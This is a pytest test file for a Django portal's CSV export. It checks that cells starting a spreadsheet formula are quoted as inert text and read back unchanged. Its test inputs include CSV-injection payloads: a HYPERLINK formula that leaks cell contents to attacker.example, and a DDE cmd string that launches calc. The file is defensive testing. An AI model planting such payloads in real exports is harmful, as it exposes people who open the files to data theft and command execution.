"""CSV downloads carry no live formulas: a spreadsheet shows such cells as text."""

import csv
import io

import pytest
from django.urls import reverse

from flexibilities.models import Provision
from portal.csv_export import inert, restored
from tests.flexibilities.conftest import make_provision
from tests.flexibilities.test_import import run
from tests.portal.activities_support import consent, make_activity

HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd", "'-2+3+cmd"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
        ("'=1+1", "''=1+1"),  # already quoted: one more, so reading back is exact
        ("-12.5", "-12.5"),  # a negative number stays a number
        ("+41", "+41"),
        (-3, -3),
        ("Section 31 = compulsory licence", "Section 31 = compulsory licence"),
        ("", ""),
    ],
)
def test_text_that_would_start_a_formula_is_quoted_and_numbers_are_not(cell, written):
    assert inert(cell) == written
    if isinstance(cell, str):
        assert restored(written) == cell


def cells(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_a_published_activity_titled_with_a_formula_exports_as_inert_text(triage, ke_focal, client):
    activity = make_activity(triage, title=HYPERLINK, venue="@Nairobi")
    consent(activity, ke_focal, general=True, details=True)

    header, row = cells(client.get(reverse("activity_export")))

    assert row[header.index("title")] == "'" + HYPERLINK
    assert row[header.index("venue")] == "'@Nairobi"


@pytest.mark.django_db
def test_a_provision_with_a_formula_exports_inert_and_imports_back_unchanged(client):
    make_provision("KE", text=HYPERLINK, note="-see the annex")
    before = list(Provision.objects.values())

    response = client.get(reverse("flexibilities:export_csv"))
    header, row = cells(response)[:2]
    assert row[header.index("text")] == "'" + HYPERLINK
    assert row[header.index("note")] == "'-see the annex"

    content = b"".join(client.get(reverse("flexibilities:export_csv")).streaming_content)
    run(content, "export.csv")
    assert list(Provision.objects.values()) == before
